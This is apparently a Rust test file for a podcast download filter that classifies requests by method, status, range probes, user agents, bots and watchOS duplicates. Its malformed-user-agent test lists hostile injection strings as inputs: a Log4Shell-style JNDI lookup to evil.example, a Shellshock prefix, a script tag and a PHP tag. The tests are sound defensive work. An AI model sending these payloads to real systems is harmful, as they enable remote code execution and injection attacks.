use std::sync::LazyLock;

use castback_schemas::Micros;

use super::*;
use crate::lists::ListTexts;
use crate::patterns::read;

static LISTS: LazyLock<Lists> = LazyLock::new(|| Lists::new(&ListTexts::seed(), Micros(0)).unwrap());

const PLAYER: &str = "AppleCoreMedia/1.0.0.16G114 (iPod touch; U; CPU OS 12_4_2 like Mac OS X; en_us)";

/// A request that passes every filter.
const GOOD: FilterInput<'_> = FilterInput {
    subject: Subject::Episode,
    method: "GET",
    answer: Some(Answer { status: 200, bytes_sent: Some(5_000_000) }),
    range: None,
    user_agent: Some(PLAYER),
    network: NetworkClass::Other,
    referer: None,
};

fn judged(request: FilterInput<'_>) -> Option<FilterReason> {
    let reason = judge(&request, &LISTS);
    let agent = LISTS.agents.classify(request.user_agent.unwrap_or_default());
    assert_eq!(judge_as(&request, judge_agent(request.user_agent, agent), &LISTS), reason);
    reason
}

fn by_agent_text(user_agent: &str) -> Option<FilterReason> {
    judged(FilterInput { user_agent: Some(user_agent), ..GOOD })
}

const fn answered(status: u16, bytes_sent: Option<u64>) -> Answer {
    Answer { status, bytes_sent }
}

#[test]
fn a_good_request_passes() {
    assert_eq!(judged(GOOD), None);
    assert_eq!(judged(FilterInput { network: NetworkClass::Unknown, ..GOOD }), None);
    assert_eq!(judged(FilterInput { referer: Some("https://castbox.fm/"), ..GOOD }), None);
}

#[test]
fn the_first_reason_that_applies_is_given() {
    // Everything is wrong at first; each step mends the reason given.
    let mut request = FilterInput {
        subject: Subject::Rerouted,
        method: "-",
        answer: Some(answered(404, Some(0))),
        range: Some("bytes=0-1"),
        user_agent: None,
        network: NetworkClass::Datacentre,
        referer: Some("http://semalt.com/"),
    };
    let mut given = vec![judged(request)];
    let mut step = |mend: &dyn Fn(&mut FilterInput<'_>)| {
        mend(&mut request);
        given.push(judged(request));
    };
    step(&|request| request.method = "HEAD");
    step(&|request| request.subject = Subject::UnknownPodcast);
    step(&|request| request.subject = Subject::NotAnEpisode);
    step(&|request| request.subject = Subject::Episode);
    step(&|request| request.method = "GET");
    step(&|request| request.answer = GOOD.answer);
    step(&|request| request.range = None);
    step(&|request| request.user_agent = Some("12345"));
    step(&|request| request.user_agent = Some("atc/1.0 watchOS/5.1 model/Watch4,2"));
    step(&|request| request.user_agent = Some("Googlebot/2.1"));
    step(&|request| request.user_agent = Some("Go-http-client/1.1"));
    step(&|request| request.user_agent = Some(PLAYER));
    step(&|request| request.network = NetworkClass::Other);
    step(&|request| request.referer = None);
    let elsewhere = [FilterReason::Rate, FilterReason::BelowThreshold];
    let expected = FilterReason::ALL.iter().copied().filter(|reason| !elsewhere.contains(reason));
    assert_eq!(given, expected.map(Some).chain([None]).collect::<Vec<_>>());
    assert!(FilterReason::ALL.is_sorted());
}

#[test]
fn methods_and_statuses() {
    for method in ["HEAD", "POST", "OPTIONS", "get"] {
        assert_eq!(judged(FilterInput { method, ..GOOD }), Some(FilterReason::Method), "{method}");
    }
    for method in ["", "-", "G T", "\u{16}\u{3}"] {
        assert_eq!(judged(FilterInput { method, ..GOOD }), Some(FilterReason::MalformedRequest), "{method}");
    }
    for status in [0, 204, 301, 302, 304, 400, 404, 416, 500] {
        let request = FilterInput { answer: Some(answered(status, Some(9_000))), ..GOOD };
        assert_eq!(judged(request), Some(FilterReason::Status), "{status}");
    }
    assert_eq!(judged(FilterInput { answer: Some(answered(206, None)), ..GOOD }), None);
}

#[test]
fn probes_with_and_without_a_range() {
    let probe = Some(FilterReason::RangeProbe);
    for (range, answer, reason) in [
        (Some("bytes=0-1"), Some(answered(206, Some(2))), probe),
        (Some("bytes=0-0"), Some(answered(200, None)), probe),
        (Some("bytes=0-1"), None, probe),
        (Some("bytes=0-2"), Some(answered(206, Some(2))), None),
        (Some("bytes=0-"), Some(answered(206, Some(1))), None),
        (None, Some(answered(206, Some(2))), probe),
        (None, Some(answered(206, Some(0))), probe),
        (Some("nonsense"), Some(answered(206, Some(2))), probe),
        (None, Some(answered(206, Some(3))), None),
        (None, Some(answered(206, None)), None),
        (None, Some(answered(200, Some(2))), None),
        (None, None, None),
    ] {
        assert_eq!(judged(FilterInput { answer, range, ..GOOD }), reason, "{range:?} {answer:?}");
    }
}

#[test]
fn missing_and_malformed_agents() {
    assert_eq!(judged(FilterInput { user_agent: None, ..GOOD }), Some(FilterReason::NoUserAgent));
    for text in ["", " ", "-"] {
        assert_eq!(by_agent_text(text), Some(FilterReason::NoUserAgent), "{text:?}");
    }
    let long = "a".repeat(MAX_USER_AGENT + 1);
    for text in [
        &*long,
        "1.2.3",
        "()",
        "Pod\u{0}cast",
        "Pod\ncast/1.0",
        "Pod\u{fffd}",
        "user-agent: Pod/1.0",
        "(null)",
        "NULL",
        "undefined",
        "${jndi:ldap://evil.example/a}",
        "() { :; }; /bin/true",
        "<script>alert(1)</script>",
        "<?php phpinfo(); ?>",
    ] {
        assert_eq!(by_agent_text(text), Some(FilterReason::MalformedUserAgent), "{text}");
    }
    for text in ["Подкасты/1520.39 CFNetwork/1206 Darwin/20.1.0", "RTL+", "é", &long[1..]] {
        assert_eq!(by_agent_text(text), None, "{text}");
    }
}

#[test]
fn watches_are_told_from_phones() {
    let duplicate = Some(FilterReason::WatchosDuplicate);
    assert_eq!(by_agent_text("atc/1.0 watchOS/5.1 model/Watch4,2 hwp/t8006 build/16R591"), duplicate);
    assert_eq!(by_agent_text("(null)/(null) watchOS/8.5 model/Watch5,9"), duplicate);
    assert_ne!(by_agent_text("Watch/1140 CFNetwork/3860.200.71 Darwin/25.1.0"), duplicate);
    assert_ne!(by_agent_text("Player/1.0 watchOS/5.1"), duplicate);
}

#[test]
fn unknown_agents_that_say_bot_are_bots() {
    for text in ["UnheardOf-BOT/1.0", "some crawlers inc", "A Spider"] {
        assert_eq!(by_agent_text(text), Some(FilterReason::Bot), "{text}");
    }
    assert_eq!(by_agent_text("UnheardOf/1.0"), None);
    // On the list of apps, so what its name says does not matter.
    assert_eq!(by_agent_text("Tweetbot/53300 CFNetwork/1335.0.3 Darwin/21.6.0"), None);
}

#[test]
fn upstream_examples_are_filtered_by_their_list_alone() {
    let texts = ListTexts::seed();
    let texts = texts.agents();
    let by_list = |list, json, reason: fn(&str) -> Option<FilterReason>| {
        for entry in read(list, json).unwrap() {
            for example in &entry.examples {
                let expected = if is_watchos_duplicate(example) {
                    Some(FilterReason::WatchosDuplicate)
                } else {
                    reason(entry.category.as_deref().unwrap_or_default())
                };
                assert_eq!(by_agent_text(example), expected, "{list}: {example}");
            }
        }
    };
    by_list("bots", texts.bots, |_| Some(FilterReason::Bot));
    by_list("apps", texts.apps, |_| None);
    by_list("libraries", texts.libraries, |category| (category == "bot").then_some(FilterReason::BotLibrary));
    by_list("browsers", texts.browsers, |_| None);
}
